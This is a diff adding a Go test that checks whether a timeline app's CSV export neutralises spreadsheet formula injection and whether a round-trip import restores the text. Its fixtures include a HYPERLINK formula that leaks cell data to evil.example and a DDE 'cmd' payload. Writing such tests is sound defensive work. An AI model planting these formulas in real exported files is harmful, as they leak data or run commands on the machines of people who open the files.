@@ -1,0 +1,61 @@
+package formats
+
+import (
+	"context"
+	"encoding/csv"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/factline/factline/models"
+)
+
+// TestCSVExportNeutralisesFormulasAndImportUndoesIt exports headlines that a
+// spreadsheet would run as formulas: no exported cell starts with = + - @ tab
+// or CR (plain numbers aside), and importing the export gives back the text.
+func TestCSVExportNeutralisesFormulasAndImportUndoesIt(t *testing.T) {
+	store := models.NewTestStore(t, nil)
+	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1:A9)", "'=already quoted", "'plain quote", "Plain headline"}
+	var refs []models.Ref
+	for _, title := range titles {
+		e := models.MakeEvent(t, store, title, "2022-09-01")
+		refs = append(refs, models.Ref{Kind: models.KindEvent, ID: e.ID})
+	}
+	speaker := models.MakeActor(t, store, "=cmd|' /C calc'!A0")
+	c := models.MakeClaim(t, store, speaker, "-1 said nothing", "2022-09-02")
+	refs = append(refs, models.Ref{Kind: models.KindClaim, ID: c.ID})
+	tl := models.MakeTimeline(t, store, "formulas", refs...)
+
+	out := exportString(t, store, tl, "csv")
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	number := regexp.MustCompile(`^[+-]?[0-9]+$`)
+	for r, row := range rows {
+		for col, cell := range row {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !number.MatchString(cell) {
+				t.Errorf("row %d, column %q: %q would run as a formula", r+1, rows[0][col], cell)
+			}
+		}
+	}
+
+	other := models.NewTestStore(t, nil)
+	back := importString(t, other, out, "formulas.csv", "")
+	lt, err := other.LoadTimeline(models.AsSystem(context.Background()), back.Slug)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]bool{}
+	for _, it := range lt.Items {
+		got[it.Title] = true
+	}
+	for _, title := range append(titles, "-1 said nothing") {
+		if !got[title] {
+			t.Errorf("%q did not come back from the import; got %v", title, got)
+		}
+	}
+	if again := exportString(t, other, back, "csv"); again != out {
+		t.Errorf("export(import(export)) differs:\n%s\n---\n%s", out, again)
+	}
+}
